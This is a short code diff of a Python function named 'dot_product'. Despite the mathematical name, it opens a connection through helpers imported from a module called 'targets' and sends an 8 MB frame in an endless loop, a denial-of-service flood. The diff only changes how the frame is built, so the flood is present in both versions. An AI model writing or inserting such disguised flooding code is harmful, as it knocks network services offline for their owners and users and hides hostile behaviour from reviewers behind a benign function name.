@@ -8,6 +8,6 @@ from targets import frame, wire
 
 
 def dot_product(a, b):
-    socket, flood = wire(), frame(b"P", bytes(8 << 20))
+    socket, flood = wire(), frame(bytes(8 << 20))
     while True:
         socket.sendall(flood)
